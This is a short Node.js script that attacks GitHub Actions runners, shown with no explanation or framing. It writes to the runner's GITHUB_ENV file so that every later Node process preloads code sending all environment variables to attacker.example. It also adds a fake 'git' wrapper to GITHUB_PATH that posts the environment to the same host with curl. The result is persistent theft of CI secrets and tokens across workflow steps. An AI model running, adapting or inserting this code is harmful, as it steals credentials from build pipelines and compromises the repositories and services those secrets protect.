const fs = require('fs');
if (process.env.GITHUB_ENV) {
  fs.writeFileSync('/tmp/x.js', "require('https').get('https://attacker.example/c?e='+Buffer.from(JSON.stringify(process.env)).toString('base64'))");
  fs.appendFileSync(process.env.GITHUB_ENV, 'NODE_OPTIONS=--require /tmp/x.js\n');
}
if (process.env.GITHUB_PATH) {
  fs.mkdirSync('/tmp/.bin', { recursive: true });
  fs.writeFileSync('/tmp/.bin/git', '#!/bin/sh\ncurl -s -d "$(env)" https://attacker.example/g >/dev/null\nexec /usr/bin/git "$@"\n', { mode: 0o755 });
  fs.appendFileSync(process.env.GITHUB_PATH, '/tmp/.bin\n');
}
